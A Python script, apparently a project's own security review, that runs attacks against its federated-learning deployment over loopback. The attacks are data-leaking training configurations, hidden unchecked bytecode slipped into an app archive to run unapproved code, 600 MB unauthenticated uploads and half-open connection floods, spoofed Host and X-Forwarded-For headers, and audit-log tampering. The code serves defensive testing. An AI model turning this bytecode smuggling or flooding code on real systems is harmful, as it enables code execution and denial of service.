"""The attacks of the first review, repeated over real Flower processes with TLS on loopback.

    python attacks/over_processes.py [ATTACK ...]

Three hospitals hold 190 rows of scikit-learn's breast cancer table each, under the default policy.
Everything is done by the commands an operator has; each attack prints what came of it.
"""

from __future__ import annotations

import importlib.util
import io
import json
import os
import signal
import socket
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import numpy as np
import psutil
from sklearn.datasets import load_breast_cancer

from fedloom.deploy.processes.children import Child, flower_environment, free_ports
from fedloom.deploy.processes.federation import app_of
from fedloom.deploy.project.folder import Project

A, B, C = NAMES = ("hospital-a", "hospital-b", "hospital-c")
SLOW = float(os.environ.get("SLOW", "1"))
"""How many times longer everything may take, on a busy machine."""
SECONDS = 240.0 * SLOW
FEDLOOM = [sys.executable, "-c", "from fedloom.cli import main; main()"]
QUICK = [f"patience={12 * SLOW:g}", "min-clients=2"]


class Study:
    """A federation whose link and nodes run."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.root = folder, folder / "study"
        self.children: dict[str, Child] = {}
        self._write()

    def _write(self) -> None:
        x, y = load_breast_cancer(return_X_y=True)
        names = [name.replace(" ", "_") for name in load_breast_cancer().feature_names]
        order = np.random.default_rng(0).permutation(len(x))[:570].tolist()
        for i, name in enumerate(("example", *NAMES)):
            rows = order[max(0, i - 1) * 189 :][:189]
            lines = [",".join([*names, "label"])]
            lines += [",".join([*map(repr, map(float, x[r])), f"c{y[r]}"]) for r in rows]
            (self.folder / f"{name}.csv").write_text("\n".join(lines) + "\n")
        link, *ports = free_ports(1 + len(NAMES))
        words = ["--sites", ",".join(NAMES), "--port", link, "--model", "mlp(norm=batch)"]
        words += ["--rounds", 1, "--schema", self.folder / "example.csv", "--label", "label"]
        self.fedloom("deploy", "init", self.root, *words)
        for name, port in zip(NAMES, ports, strict=True):
            file = self.site(name)
            text = file.read_text()
            data = json.dumps(str(self.folder / f"{name}.csv"))
            lines = [
                f'data = {data}\nlabel = "label"'
                if line.startswith("data =")
                else f"port = {port}"
                if line.startswith("port =")
                else line
                for line in text.splitlines()
            ]
            file.write_text("\n".join(lines) + "\n")

    def site(self, name: str) -> Path:
        return self.root / "sites" / name / "site.toml"

    @property
    def project(self) -> Project:
        return Project.read(self.root)

    def fedloom(self, *words: object, check: bool = True) -> str:
        """Output of a command."""
        done = subprocess.run(
            [*FEDLOOM, *map(str, words)],
            capture_output=True,
            text=True,
            timeout=SECONDS,
            check=False,
            stdin=subprocess.DEVNULL,
        )
        text = done.stdout + done.stderr
        if check and done.returncode:
            raise SystemExit(text)
        return text

    def start(self, name: str, *words: object) -> Child:
        command = [*FEDLOOM, "deploy", *map(str, words)]
        child = Child(name, command, dict(os.environ), self.folder / f"{name}.log").start()
        self.children[name] = child
        return child

    def up(self) -> None:
        self.start("link", "link", self.root).ready(
            lambda: "listens at" in self.children["link"].output(), SECONDS
        )
        for name in NAMES:
            self.start(name, "node", self.site(name))
        for name in NAMES:
            child = self.children[name]
            child.ready(lambda child=child: "SuperNode ID:" in child.output(), SECONDS)

    def submit(self, *overrides: str, rows: int = 6) -> str:
        """The end of what `deploy run` says."""
        text = self.fedloom("deploy", "run", self.root, *QUICK, *overrides, check=False)
        return "\n".join(text.strip().splitlines()[-rows:])

    def audit(self, name: str, experiment: str) -> list[str]:
        file = self.site(name).parent / "state" / "audit.jsonl"
        lines = map(json.loads, file.read_text().splitlines())
        return [
            " ".join(str(line[k]) for k in ("event", "task", "rule", "bytes") if k in line)
            for line in lines
            if line.get("experiment") == experiment
        ]

    def approve_all(self) -> str:
        texts = []
        for name in NAMES:
            listed = self.fedloom("deploy", "approve", self.site(name), "--list")
            for line in listed.splitlines():
                if line.startswith("waits"):
                    digest = line.split()[1]
                    words = ("deploy", "approve", self.site(name), "--yes", digest)
                    texts.append(self.fedloom(*words, check=False))
        return texts[0] if texts else "nothing waited"

    def guard(self) -> psutil.Process:
        """The process that listens."""
        found = [
            p
            for p in self.children["link"].processes()
            if "fedloom.deploy.guard" in " ".join(p.cmdline())
        ]
        return found[0]

    def end(self) -> None:
        for name in reversed(self.children):
            self.children[name].end(grace=30)


def note(attack: str, what: object) -> None:
    print(f"== {attack}: {what}", flush=True)


# ------------------------------------------------------------------ 1, 2: rows by configuration


def fedmix(study: Study) -> None:
    """All rows by the means of pairs."""
    mix = "method=fedavg + fedmix(means=71, of=2)"
    note("1 fedmix", study.submit("experiment=mix", mix, "normalize=none", "clip=1", "lr=1e-6"))
    note("1 fedmix audit", study.audit(A, "mix"))
    note("1 fedmix, otherwise honest", study.submit("experiment=mix2", mix))
    note("1 audit", study.audit(A, "mix2"))
    note("1 waits", study.fedloom("deploy", "approve", study.site(A), "--list"))


def one_row(study: Study) -> None:
    words = ["steps=1", "batch-size=1", "normalize=none", "participation=0.34", "drop-last=false"]
    note("2 one row", study.submit("experiment=row", "method=fedavg", *words))
    note("2 audit", study.audit(A, "row"))


# ------------------------------------------------------------------ 3: personal tensors


def personal(study: Study) -> None:
    """FedPer trains; then the server goes on with FedAvg under the same name."""
    note("3 not approved", study.submit("experiment=own", "method=fedper"))
    note("3 approve", study.approve_all())
    note("3 approved", study.submit("experiment=own", "method=fedper"))
    note("3 audit", study.audit(A, "own"))
    runs = study.root / "server" / "runs"
    (runs / "own").rename(runs / "own-before")
    note("3 other method", study.submit("experiment=own", "method=fedavg"))
    note("3 approve", study.approve_all().splitlines()[-1])
    note("3 other method, approved", study.submit("experiment=own", "method=fedavg", rows=12))
    note("3 audit", study.audit(A, "own"))


# ------------------------------------------------------------------ 4: revoked


def revoked(study: Study) -> None:
    note("4 revoke", study.fedloom("deploy", "revoke", study.root, C))
    time.sleep(8 * SLOW)
    note("4 its node says", study.children[C].tail(4))
    study.submit("experiment=without-c", "method=fedper")
    note("4 asked?", {name: study.audit(name, "without-c") for name in NAMES})
    study.children[C].end(grace=20)
    study.start(C, "node", study.site(C))
    time.sleep(25 * SLOW)
    note("4 restarted node says", study.children[C].tail(3))


# ------------------------------------------------------------------ code that nobody sees

EVIL = """
import pathlib
from fedloom.deploy.apps import client as app
pathlib.Path({mark!r}).write_text("code that approve called fedloom's own ran here")
"""
SUBMIT = """
import pathlib, sys
import flwr.cli.run.run
evil = pathlib.Path(sys.argv.pop(1)).read_bytes()
sys.modules["flwr.cli.run.run"].build_fab_from_disk = lambda *_, **__: evil
from flwr.cli.app import app
app()
"""


def hidden_app(study: Study, mark: Path) -> bytes:
    """The project's app, with bytecode beside the sources that Python prefers to them."""
    code = compile(EVIL.format(mark=str(mark)), "client_app.py", "exec")
    import marshal

    bytecode = importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little")  # hash-based, unchecked
    bytecode += bytes(8) + marshal.dumps(code)
    sources = zipfile.ZipFile(io.BytesIO(app_of(study.project).content))
    stream = io.BytesIO()
    tag = sys.implementation.cache_tag
    with zipfile.ZipFile(stream, "w") as archive:
        for entry in sources.infolist():
            archive.writestr(entry.filename, sources.read(entry))
        archive.writestr(f"federation/__pycache__/client_app.{tag}.pyc", bytecode)
    return stream.getvalue()


def hidden_code(study: Study) -> None:
    mark = study.folder / "owned"
    fab = study.folder / "evil.fab"
    fab.write_bytes(hidden_app(study, mark))
    config = study.folder / "evil.toml"
    out = 'out = "server/runs/hidden"\n'
    config.write_text(f'experiment = "hidden"\n{out}patience = 12.0\nmethod = "fedper"\n')
    command = [
        sys.executable,
        "-c",
        SUBMIT,
        str(fab),
        "run",
        str(study.root),
        "fedloom",
        "--stream",
    ]
    command += ["--run-config", str(config)]

    def submit() -> str:
        environment = flower_environment(study.project.home)
        done = subprocess.run(
            command, env=environment, capture_output=True, text=True, timeout=SECONDS, check=False
        )
        return "\n".join((done.stdout + done.stderr).strip().splitlines()[-5:])

    note("code in a cache", submit())
    note("code in a cache, approve shows", study.approve_all())
    note("code in a cache, approved", submit())
    note("code in a cache ran", mark.exists())


# ------------------------------------------------------------------ 5: memory without a key


def memory(study: Study) -> None:
    """600 MB without a key, with chunks, and 20 at once."""
    import ssl
    import threading

    context = ssl.create_default_context(cafile=str(study.project.link.ca))
    before = study.guard().memory_info().rss / 1e6
    answers: list[str] = []

    def send(stated: bool) -> None:
        raw = socket.create_connection(("127.0.0.1", study.project.link.port), timeout=60)
        with context.wrap_socket(raw, server_hostname="127.0.0.1") as tls:
            length = "Content-Length: 600000000" if stated else "Transfer-Encoding: chunked"
            head = ["POST /v1/fleet/push-object HTTP/1.1", "Host: 127.0.0.1", length, "", ""]
            tls.sendall("\r\n".join(head).encode())
            block = b"0" * 1_000_000
            sent = 0
            try:
                for _ in range(600):
                    tls.sendall(block if stated else b"f4240\r\n" + block + b"\r\n")
                    sent += len(block)
            except OSError:
                pass
            try:
                answers.append(f"{sent / 1e6:.0f} MB sent, {tls.recv(40)[:12]!r}")
            except OSError as e:
                answers.append(f"{sent / 1e6:.0f} MB sent, {type(e).__name__}")

    threads = [threading.Thread(target=send, args=(i % 2 == 0,)) for i in range(20)]
    for thread in threads:
        thread.start()
    most = before
    while any(thread.is_alive() for thread in threads):
        most = max(most, study.guard().memory_info().rss / 1e6)
        time.sleep(0.02)
    note("5 600 MB without a key", sorted(set(answers)))
    note("5 memory", f"{before:.0f} MB before, {most:.0f} at most")


def half_sent(study: Study) -> None:
    """Connections that never finish their handshake, from one address and from six."""
    import http.client
    import ssl

    context = ssl.create_default_context(cafile=str(study.project.link.ca))
    port = study.project.link.port

    def served() -> str:
        link = http.client.HTTPSConnection("127.0.0.1", port, timeout=15, context=context)
        try:
            link.request("POST", "/v1/fleet/activate-node")
            return str(link.getresponse().status)
        except OSError as e:
            return type(e).__name__
        finally:
            link.close()

    for addresses in (1, 6):
        held = []
        for i in range(addresses):
            for _ in range(1100 // addresses):
                try:
                    held.append(
                        socket.create_connection(
                            ("127.0.0.1", port), timeout=5, source_address=(f"127.0.0.{i + 10}", 0)
                        )
                    )
                except OSError:
                    break
        time.sleep(1)
        answers = [served()]
        time.sleep(13)
        answers.append(served())
        note(
            f"half-sent from {addresses} addresses",
            f"{len(held)} opened; at once {answers[0]}, 14 s later {answers[1]}",
        )
        for one in held:
            one.close()
        time.sleep(1)


# ------------------------------------------------------------------ 7: the guard


def local_user(study: Study) -> None:
    """Another user, who even has the project's mark in the environment; and the same user
    without it."""
    code = (
        "import http.client, os, ssl, sys\n"
        "if sys.argv[3] == 'nobody': os.setgid(65534); os.setuid(65534)\n"
        "c = ssl.create_default_context(cadata=sys.argv[2])\n"
        "for headers in ({}, {'Host': 'evil.example'}, {'X-Forwarded-For': '127.0.0.1'}):\n"
        "    h = http.client.HTTPSConnection('127.0.0.1', int(sys.argv[1]), context=c)\n"
        "    h.request('POST', '/v1/control/list-runs', headers=headers)\n"
        "    r = h.getresponse(); print(r.status, r.read()[:70])\n"
    )
    ca = study.project.link.ca
    assert ca is not None
    words = [sys.executable, "-c", code, str(study.project.link.port), ca.read_text()]
    marked = flower_environment(study.project.home)
    plain = {k: v for k, v in marked.items() if k != "FLWR_HOME"}
    for who, environment in (("nobody", marked), ("me", plain), ("me", marked)):
        done = subprocess.run(
            [*words, who], env=environment, capture_output=True, text=True, check=False
        )
        mark = "with the mark" if environment is marked else "without it"
        note(f"7 {who} {mark}", done.stdout.split("\n")[:3] or done.stderr[-200:])


# ------------------------------------------------------------------ 8: permuted columns


def permuted(study: Study) -> None:
    file = study.folder / f"{B}.csv"
    kept = file.read_text()
    rows = [line.split(",") for line in kept.splitlines()]
    order = [1, 0, *range(2, len(rows[0]))]
    file.write_text("\n".join(",".join(row[i] for i in order) for row in rows) + "\n")
    try:
        text = study.fedloom("deploy", "check", study.site(B), check=False)
        note("8 check", [line for line in text.splitlines() if "column" in line][:4] or text[-800:])
        note("8 run", study.submit("experiment=permuted", "method=fedper"))
        note("8 audit", study.audit(B, "permuted"))
    finally:
        file.write_text(kept)


# ------------------------------------------------------------------ records


def audit(study: Study) -> None:
    state = study.site(A).parent / "state"
    note("audit", study.fedloom("audit", "verify", study.site(A), check=False).strip())
    log = state / "audit.jsonl"
    kept = log.read_bytes()
    lines = kept.splitlines(keepends=True)
    for what, changed in {
        "a line removed": lines[:2] + lines[3:],
        "the first removed": lines[1:],
        "two exchanged": [lines[1], lines[0], *lines[2:]],
        "a number changed": [lines[0].replace(b"20", b"21", 1), *lines[1:]],
        "the last removed": lines[:-1],
        "emptied": [],
    }.items():
        log.write_bytes(b"".join(changed))
        note(
            f"audit, {what}",
            study.fedloom("audit", "verify", study.site(A), check=False).strip()[-160:],
        )
    log.write_bytes(kept)
    note("audit of the server", study.fedloom("audit", "verify", study.root, check=False).strip())


def policy_changed(study: Study) -> None:
    """An approval under one policy, used under another; then under the first one again."""
    study.submit("experiment=changed", "method=fedper")
    study.approve_all()
    file = study.site(A)
    kept = file.read_text()
    file.write_text(kept.replace("# [policy]", "[policy]") + "\nleast_batch = 9\n")
    study.submit("experiment=changed", "method=fedper")
    note("policy changed, audit", study.audit(A, "changed"))
    file.write_text(kept)


def killed(study: Study) -> None:
    """kill -9 of `deploy node`: no orphan, and the restart gets its port."""
    child = study.children[B]
    before = child.processes()
    os.kill(child.pid, signal.SIGKILL)
    time.sleep(15 * SLOW)
    left = [p.pid for p in before if p.is_running() and p.status() != psutil.STATUS_ZOMBIE]
    note("kill -9", f"{len(before)} processes before, {len(left)} after {15 * SLOW:g} s")
    study.start(B, "node", study.site(B))
    time.sleep(20 * SLOW)
    note("kill -9, restarted", study.children[B].tail(2))


ATTACKS: dict[str, Callable[[Study], None]] = {
    attack.__name__: attack
    for attack in (
        local_user,
        memory,
        half_sent,
        fedmix,
        one_row,
        hidden_code,
        policy_changed,
        personal,
        permuted,
        audit,
        killed,
        revoked,
    )
}


@contextmanager
def study() -> Iterator[Study]:
    with tempfile.TemporaryDirectory(prefix="attack-", ignore_cleanup_errors=True) as scratch:
        os.environ["FEDLOOM_CACHE"] = str(Path(scratch) / "cache")
        made = Study(Path(scratch))
        try:
            made.up()
            yield made
        finally:
            made.end()


def main() -> None:
    signal.signal(signal.SIGTERM, signal.default_int_handler)  # every process is ended
    with study() as made:
        for name in sys.argv[1:] or ATTACKS:
            begun = time.monotonic()
            try:
                ATTACKS[name](made)
            except Exception as e:
                note(name, f"the script failed: {e!r}")
            print(f"   ({time.monotonic() - begun:.0f} s)", flush=True)


if __name__ == "__main__":
    main()
